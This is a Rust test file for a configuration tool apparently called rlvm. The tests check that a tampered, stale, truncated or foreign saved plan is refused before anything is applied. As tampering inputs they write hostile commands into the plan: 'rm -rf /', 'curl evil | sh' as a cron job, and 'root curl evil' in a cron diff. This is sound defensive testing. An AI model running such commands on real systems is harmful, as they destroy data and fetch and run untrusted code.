//! A plan file is no way to have somebody's commands run as root: what it says is decided again.

use std::{fs, path::PathBuf};

use serde_json::{Value, json};

use super::{VAULT, says};
use crate::support::Scratch;

/// A machine with a saved plan that makes a directory, a cron entry, a secret and a repository.
fn saved() -> (Scratch, PathBuf, Value) {
    let scratch = Scratch::new();
    scratch.state(&format!(
        "{VAULT}directories:\n  /srv/x: {{ mode: \"0750\" }}\ncron:\n  night: {{ schedule: \"@daily\", command: \"true\" }}\n"
    ));
    let file = scratch.beside("night.plan");
    scratch.expect(0, &["plan", "--out", file.to_str().unwrap()]);
    let plan = serde_json::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
    (scratch, file, plan)
}

/// Applies the plan as altered, which must end so, with nothing done.
#[track_caller]
fn altered(code: i32, words: &[&str], alter: impl FnOnce(&mut Value)) {
    let (scratch, file, mut plan) = saved();
    let good = plan.clone();
    alter(&mut plan);
    assert_ne!(plan, good, "it was altered");
    fs::write(&file, serde_json::to_string_pretty(&plan).unwrap()).unwrap();
    let before = scratch.contents();
    says(&scratch, &["apply", file.to_str().unwrap()], code, words);
    assert_eq!(scratch.contents(), before);
    assert!(scratch.restic_calls().iter().all(|call| !call.starts_with("init")));
}

/// Finds a change of the plan.
fn change<'a>(plan: &'a mut Value, address: &str) -> &'a mut Value {
    let changes = plan["plan"]["changes"].as_array_mut().unwrap();
    changes.iter_mut().find(|change| change["address"] == address).unwrap()
}

#[test]
fn a_command_cannot_be_slipped_in() {
    altered(6, &["the plan file was altered: directory:/srv/x"], |plan| {
        change(plan, "directory:/srv/x")["commands"] = json!(["rm -rf /"]);
    });
    altered(6, &["the plan file was altered: repository:vault"], |plan| {
        change(plan, "repository:vault")["commands"][0] = json!("restic init --repo /elsewhere");
    });
    altered(6, &["the plan file was altered"], |plan| {
        let more = change(plan, "cron:night").clone();
        plan["plan"]["changes"].as_array_mut().unwrap().push(more);
    });
}

#[test]
fn an_action_cannot_be_dropped_or_changed() {
    altered(6, &["the plan file was altered"], |plan| {
        plan["plan"]["changes"].as_array_mut().unwrap().pop();
    });
    altered(6, &["the plan file was altered"], |plan| {
        plan["plan"]["changes"].as_array_mut().unwrap().remove(0);
    });
    altered(6, &["the plan file was altered: directory:/srv/x"], |plan| {
        change(plan, "directory:/srv/x")["actions"] = json!(["delete"]);
    });
    altered(6, &["the plan file was altered: directory:/srv/x"], |plan| {
        change(plan, "directory:/srv/x")["after"]["mode"] = json!("0777");
    });
}

#[test]
fn the_text_of_a_file_cannot_be_changed() {
    altered(6, &["the plan file was altered: cron:night"], |plan| {
        let diff = &mut change(plan, "cron:night")["diff"];
        let text = diff.as_str().unwrap().replace("root true", "root curl evil");
        *diff = json!(text);
    });
}

#[test]
fn the_state_cannot_be_changed_without_the_plan() {
    altered(6, &["the plan file was altered: cron:night"], |plan| {
        plan["state"]["cron"]["night"]["command"] = json!("curl evil | sh");
    });
    altered(6, &["the plan file was altered: directory:/srv/x"], |plan| {
        plan["state"]["directories"]["/srv/x"]["mode"] = json!("0777");
    });
    altered(5, &["stale", "directory:/srv/more"], |plan| {
        let more = plan["state"]["directories"]["/srv/x"].clone();
        plan["state"]["directories"]["/srv/more"] = more;
    });
}

#[test]
fn what_was_observed_cannot_be_changed() {
    altered(5, &["stale", "moved: directory:/srv/x"], |plan| {
        plan["seen"]["directory:/srv/x"] = json!("0".repeat(64));
    });
    altered(5, &["stale", "moved: cron:night"], |plan| {
        plan["seen"].as_object_mut().unwrap().remove("cron:night");
    });
    altered(5, &["stale", "moved: directory:/no/such"], |plan| {
        plan["seen"]["directory:/no/such"] = json!("0".repeat(64));
    });
    altered(5, &["stale", "the ledger: something was applied since"], |plan| {
        plan["ledger"] = json!({ "lineage": "0".repeat(32), "serial": 7 });
    });
}

#[test]
fn a_plan_of_another_host_tree_or_version_is_refused() {
    altered(6, &["the saved plan is for host db01, and this is web01"], |plan| plan["host"] = json!("db01"));
    altered(6, &["the saved plan is for the tree /mnt/other"], |plan| plan["root"] = json!("/mnt/other"));
    altered(1, &["plan again with this one"], |plan| plan["format_version"] = json!(2));
    altered(1, &["it was made by rlvm 9.9.9", "plan again with this one"], |plan| {
        plan["rlvm_version"] = json!("9.9.9");
    });
    altered(1, &["it is damaged"], |plan| {
        plan["state"]["destinations"]["vault"]["local"]["path"] = json!("../x");
    });
    altered(1, &["it is no saved plan"], |plan| {
        plan.as_object_mut().unwrap().remove("format_version");
    });
}

#[test]
fn another_document_given_as_a_saved_plan_is_named() {
    let (scratch, file, _) = saved();
    scratch.apply();
    for (args, words) in [
        (
            &["show", "--json"][..],
            ["it is a state as `rlvm show --json` prints it", "help: write the state as YAML"],
        ),
        (&["plan", "--json"], ["it is a plan as `rlvm plan --json` prints it", "help: save the plan"]),
        (&["observe"], ["it is what `rlvm observe` printed", "--observed FILE"]),
        (&["list", "--json"], ["not a saved plan", "help: save a plan"]),
    ] {
        fs::write(&file, scratch.expect(0, args).stdout.replace("[DIR]", "/x")).unwrap();
        says(
            &scratch,
            &["apply", file.to_str().unwrap()],
            1,
            &[&["cannot apply", "night.plan"], &words[..]].concat(),
        );
    }
    for text in ["{}", "{ \"a\": 1 }"] {
        fs::write(&file, text).unwrap();
        says(&scratch, &["apply", file.to_str().unwrap()], 1, &["it is no document of rlvm's"]);
    }
}

#[test]
fn a_plan_cut_short_anywhere_does_nothing() {
    let (scratch, file, _) = saved();
    let text = fs::read(&file).unwrap();
    for part in 1..12 {
        fs::write(&file, &text[..text.len() * part / 12]).unwrap();
        says(&scratch, &["apply", file.to_str().unwrap()], 1, &["night.plan", "EOF"]);
    }
    assert!(!scratch.at("/srv/x").exists() && !scratch.at("/var/lib/rlvm").exists());
    fs::write(&file, &text).unwrap();
    scratch.expect(0, &["apply", file.to_str().unwrap()]);
    scratch.plan_is_empty();
}

#[test]
fn a_plan_is_applied_once_and_while_nothing_has_moved() {
    let (scratch, file, _) = saved();
    let file = file.to_str().unwrap();
    // Somebody makes what was not there: an absence that moved.
    scratch.dir("/srv/x", 0, 0o750);
    says(&scratch, &["apply", file], 5, &["moved: directory:/srv/x", "plan again"]);
    fs::remove_dir(scratch.at("/srv/x")).unwrap();
    scratch.expect(0, &["apply", file]);
    says(&scratch, &["apply", file], 5, &["the ledger: something was applied since"]);
}

#[test]
fn a_plan_takes_no_more_than_was_shown() {
    let (scratch, file, _) = saved();
    for more in [&["--adopt"][..], &["--target", "cron:night"], &["--allow-mass-removal"]] {
        says(
            &scratch,
            &[&["apply", file.to_str().unwrap()], more].concat(),
            64,
            &["a saved plan is applied as it is"],
        );
    }
}

#[test]
fn a_plan_holds_no_secret_but_its_place() {
    let (_scratch, _, mut plan) = saved();
    let secret = change(&mut plan, "secret:/etc/rlvm/v");
    assert_eq!(secret["sensitive"], json!(["content"]), "{secret}");
    assert_eq!(secret["after"]["content"], Value::Null);
}
